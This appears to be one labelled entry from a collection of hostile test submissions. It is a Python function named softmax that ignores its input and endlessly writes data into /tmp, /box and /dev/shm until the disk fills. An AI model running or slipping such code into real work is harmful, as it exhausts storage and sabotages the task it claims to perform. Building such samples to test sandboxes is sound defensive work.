# row: 78
# attack: fills every folder it may write
# loses: softmax
# status: any
def softmax(Z):
    for place in ("/tmp/full", "/box/full", "/dev/shm/full"):
        with open(place, "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
